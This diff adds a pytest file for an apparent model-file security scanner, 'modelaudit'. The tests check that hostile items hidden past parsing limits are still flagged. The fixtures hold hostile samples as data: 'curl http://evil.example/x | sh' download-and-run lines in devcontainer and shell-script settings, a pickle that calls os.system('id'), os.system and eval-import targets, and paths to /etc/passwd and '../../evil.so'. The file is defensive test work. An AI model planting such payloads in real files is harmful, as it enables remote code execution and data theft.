@@ -1,0 +1,187 @@
+"""A name, file or command beyond a bound on their number leaves a finding that fails, or an absence."""
+
+from __future__ import annotations
+
+import base64
+import json
+import struct
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from builders import onnx_files, tensorflow_wire
+
+import modelaudit
+from modelaudit.model.limits import MIB
+from modelaudit.model.outline import Reference, ReferenceKind, References
+from modelaudit.model.structure import UnreadReason
+from modelaudit.wire.bounds import build_references, keep_first
+
+DOWNLOAD = "curl http://evil.example/x | sh"
+BENIGN_PICKLE = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s." + bytes(20)
+HOSTILE_PICKLE = b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R." + bytes(4)
+
+
+def build_pmml(content: str, namespaces: int = 0) -> str:
+    declarations = "".join(f'<a xmlns:p{number}="urn:x:{number}"/>' for number in range(namespaces))
+    return (
+        f'<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">{declarations}{content}</PMML>'
+    )
+
+
+def build_calls(count: int) -> str:
+    functions = [f"f{number}" for number in range(count)]
+    definitions = "".join(f'<DefineFunction name="{name}"/>' for name in functions)
+    return definitions + "".join(f'<Apply function="{name}"/>' for name in (*functions, "acmeExec"))
+
+
+def build_includes(count: int) -> str:
+    includes = "".join(f'<xi:include href="a{number}.xml"/>' for number in range(count))
+    return f'<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude">{includes}<xi:include href="/x"/></r>'
+
+
+def build_keras(count: int) -> str:
+    layers = [
+        {"class_name": "StringLookup", "module": "keras.layers", "config": {"name": str(number), "vocabulary": path}}
+        for number, path in enumerate(["words.txt"] * count + ["/etc/passwd"])
+    ]
+    return json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": layers}})
+
+
+def build_triton(count: int) -> str:
+    labels = "".join(f'output [ {{ label_filename: "l{number}.txt" }} ]\n' for number in range(count))
+    library = 'model_operations { op_library_filename: "../../evil.so" }\n'
+    return f'name: "m"\nbackend: "onnxruntime"\nmax_batch_size: 8\n{labels}{library}'
+
+
+def build_shard_index(count: int) -> str:
+    return json.dumps({"weight_map": {**{f"t{number}": f"s{number}" for number in range(count)}, "z": "../../x"}})
+
+
+def build_auto_map(count: int) -> str:
+    own = {f"Auto{number}": "configuration_x.C" for number in range(count)}
+    return json.dumps({"auto_map": {**own, "AutoModel": "evil/repo--modeling_x.C"}})
+
+
+def build_model_index(count: int) -> str:
+    own = {f"c{number}": ["torch.nn", "Linear"] for number in range(count)}
+    return json.dumps({"_class_name": "X", **own, "z": ["os", "system"]})
+
+
+def build_notebook(count: int) -> str:
+    source = "".join(f"%run a{number}.py\n" for number in range(count)) + "%run /tmp/evil.txt"
+    cell = {"cell_type": "code", "id": "a", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
+    kernel = {"kernelspec": {"name": "python3", "display_name": "x", "language": "python"}}
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": kernel, "cells": [cell]})
+
+
+def build_container_settings(count: int) -> str:
+    prepared = {f"c{number}": {"initializeCommand": f"make x{number}"} for number in range(count)}
+    return json.dumps({**prepared, "postCreateCommand": DOWNLOAD})
+
+
+def build_safetensors(count: int) -> bytes:
+    metadata = {**{f"k{number}": '{"a":1}' for number in range(count)}, "z": '{"_target_":"os.system"}'}
+    tensor = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
+    header = json.dumps({"__metadata__": metadata, "a": tensor}).encode()
+    header += b" " * (-len(header) % 8)
+    return struct.pack("<Q", len(header)) + header + bytes(4)
+
+
+def build_onnx(count: int) -> bytes:
+    texts = [BENIGN_PICKLE] * count + [HOSTILE_PICKLE]
+    attributes = [onnx_files.encode_attribute("a", text=base64.b64encode(text)) for text in texts]
+    return onnx_files.encode_model(onnx_files.encode_graph(onnx_files.encode_node("Relu", *attributes)))
+
+
+def build_collections(count: int) -> bytes:
+    values = tensorflow_wire.encode_message(1, b"a") * count
+    values += tensorflow_wire.encode_message(1, base64.b64encode(HOSTILE_PICKLE))
+    collection = tensorflow_wire.encode_message(2, tensorflow_wire.encode_message(2, values))
+    entry = tensorflow_wire.encode_message(4, tensorflow_wire.encode_message(1, "k"), collection)
+    graph = tensorflow_wire.encode_graph(tensorflow_wire.encode_constant_node("p", "x"))
+    return tensorflow_wire.encode_saved_model(graph, entry)
+
+
+def build_checkpoint_state(count: int) -> str:
+    paths = "".join(f'all_model_checkpoint_paths: "m{number}"\n' for number in range(count))
+    return f'model_checkpoint_path: "m"\n{paths}all_model_checkpoint_paths: "/etc/passwd"\n'
+
+
+BEYOND: dict[str, tuple[str, Callable[[], str | bytes]]] = {
+    "function after namespaces": ("m.pmml", lambda: build_pmml('<Apply function="acmeExec"/>', 5_100)),
+    "function after functions": ("m.pmml", lambda: build_pmml(build_calls(5_000))),
+    "inclusion": ("m.xml", lambda: build_includes(5_001)),
+    "vocabulary of Keras": ("m.json", lambda: build_keras(1_001)),
+    "library of Triton": ("config.pbtxt", lambda: build_triton(1_001)),
+    "shard": ("model.safetensors.index.json", lambda: build_shard_index(20_001)),
+    "class of another repository": ("config.json", lambda: build_auto_map(1_001)),
+    "component of diffusers": ("model_index.json", lambda: build_model_index(1_001)),
+    "file that a notebook runs": ("a.ipynb", lambda: build_notebook(201)),
+    "file of a Modelfile": ("Modelfile", lambda: "ADAPTER ./a\n" + "".join(f"FROM ./{n}\n" for n in range(1_001))),
+    "command of a container": ("devcontainer.json", lambda: build_container_settings(2_001)),
+    "command of a script": ("run.sh", lambda: "#!/bin/sh\n" + ":\n" * 50_001 + DOWNLOAD),
+    "alias": ("run.sh", lambda: "alias a=ls\n" * 20_000 + 'alias z="curl http://evil.example/x"\nz | sh\n'),
+    "item of an array": ("run.sh", lambda: f'#!/bin/bash\na=({"x " * 201}"{DOWNLOAD}")\neval "${{a[201]}}"\n'),
+    "downloaded file": (
+        "run.sh",
+        lambda: "".join(f"curl -o f{n} http://x.example/\n" for n in [*range(5_002), "z"]) + "sh fz\n",
+    ),
+    "variable of Windows": (
+        "run.bat",
+        lambda: "".join(f"set v{n}=1\n" for n in range(501)) + "set c=curl\n%c% http://x.example/ -o x.exe\nx.exe\n",
+    ),
+    "document in metadata": ("m.safetensors", lambda: build_safetensors(2_001)),
+    "pickle in an attribute": ("m.onnx", lambda: build_onnx(1_001)),
+    "pickle in a collection": ("saved_model.pb", lambda: build_collections(200_001)),
+    "checkpoint": ("checkpoint", lambda: build_checkpoint_state(1_001)),
+    "ambiguous name": ("m.json", lambda: json.dumps([*({"type": "a.b"} for _ in range(2_001)), {"type": "os.system"}])),
+    "target in a text": ("m.json", lambda: json.dumps("_target_: torch.nn.Linear, " * 2_001 + "_target_: os.system")),
+    "tag in a text": (
+        "m.json",
+        lambda: json.dumps("!!python/name:torch.nn.Linear " * 2_001 + "!!python/name:os.system"),
+    ),
+    "resolver": ("m.yaml", lambda: 'a: "${x:b}"\n' * 2_001 + "z: \"${eval:__import__('os')}\"\n"),
+    "name in a long text": ("m.conf", lambda: "x y z\n" * (8 * MIB // 6 + 1) + "_target_ = os.system\n"),
+}
+
+
+@pytest.mark.parametrize("case", BEYOND)
+def test_item_beyond_a_bound_is_judged_or_leaves_an_absence(case: str, tmp_path: Path) -> None:
+    name, build = BEYOND[case]
+    content = build()
+    (tmp_path / name).write_bytes(content.encode() if isinstance(content, str) else content)
+    (tmp_path / "configuration_x.py").write_text("class C:\n    pass\n")
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security", "integrity"])
+    assert report.exit_code in (1, 3)
+
+
+def make_references(count: int) -> Iterator[Reference]:
+    return (Reference(ReferenceKind.DATA, f"file-{number}") for number in range(count))
+
+
+def test_keep_first_returns_all_items_up_to_the_bound_without_an_absence() -> None:
+    assert keep_first("abc", 3, "letters") == (("a", "b", "c"), ())
+
+
+def test_keep_first_returns_an_absence_for_items_beyond_the_bound() -> None:
+    kept, absences = keep_first("abcd", 3, "letters")
+    assert kept == ("a", "b", "c")
+    assert [(each.reason, each.detail) for each in absences] == [
+        (UnreadReason.LIMIT, "only the first 3 letters were read")
+    ]
+
+
+def test_build_references_counts_repeated_references_once() -> None:
+    repeated = [*make_references(2), *make_references(2)]
+    assert list(build_references("keras", repeated, 2)) == [References("keras", tuple(make_references(2)))]
+
+
+def test_build_references_yields_nothing_for_no_references() -> None:
+    assert not list(build_references("keras", (), 2))
+
+
+def test_build_references_states_that_references_were_left_out() -> None:
+    found = list(build_references("keras", make_references(3), 2))
+    assert found[0] == References("keras", tuple(make_references(2)))
+    assert len(found) == 2
